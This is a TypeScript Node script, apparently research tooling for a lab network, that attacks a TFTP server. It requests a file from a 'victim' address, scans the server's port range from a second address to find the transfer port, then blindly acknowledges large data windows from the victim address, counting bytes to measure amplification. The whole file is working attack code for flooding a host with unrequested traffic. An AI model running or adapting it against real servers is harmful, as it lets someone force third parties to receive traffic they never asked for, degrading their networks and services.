/**
 * Requests a file with a window from one address, and looks for the port of that transfer from another: whatever
 * answers a stranger is taken for it. Then acknowledges the windows blindly. The first address never reads what it
 * gets; that is counted at the server. Prints the number of bytes sent from the first address.
 *
 *   node scan-for-port.js SERVER PORT VICTIM SCANNER FILE
 */
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';

import { acknowledgement, readRequest } from './tftp-request.js';

/** Range from which the system chooses a port, in the network of the lab. */
const PORTS = { first: 10_000, last: 65_000 } as const;
/** Number of datagrams sent at once: more would overflow the server's receive buffers. */
const AT_ONCE = 64;
const WINDOW = 64;
/** Number of windows that are acknowledged. */
const WINDOWS = 50;
/** Time to wait for answers to the last probes, in milliseconds. */
const LATE_MS = 500;

const [server = '', port = '69', victimAddress = '', scannerAddress = '', filename = ''] =
  process.argv.slice(2);
const victim = await bound(victimAddress);
const scanner = await bound(scannerAddress);
let bytes = 0;
let found: number | undefined;
scanner.on('message', (_answer, remote) => {
  found = remote.port;
});

const options = [['blksize', '1428'] as const, ['windowsize', String(WINDOW)] as const];
forge(readRequest({ filename, options }), Number(port));
await delay(LATE_MS / 5);
const probe = acknowledgement(1);
for (let next: number = PORTS.first; next <= PORTS.last && found === undefined; next++) {
  scanner.send(probe, next, server);
  if (next % AT_ONCE === 0) {
    await delay(1);
  }
}
await delay(LATE_MS);
if (found !== undefined) {
  for (let window = 0; window < WINDOWS; window++) {
    forge(acknowledgement(window * WINDOW), found);
    await delay(10);
  }
}
await delay(LATE_MS);
process.stdout.write(`${bytes}\n`);
process.exit();

/** Sends a datagram from the victim's address. */
function forge(datagram: Buffer, to: number): void {
  victim.send(datagram, to, server);
  bytes += datagram.length;
}

async function bound(address: string): Promise<Socket> {
  const socket = createSocket('udp4');
  socket.bind(0, address);
  await once(socket, 'listening');
  return socket;
}
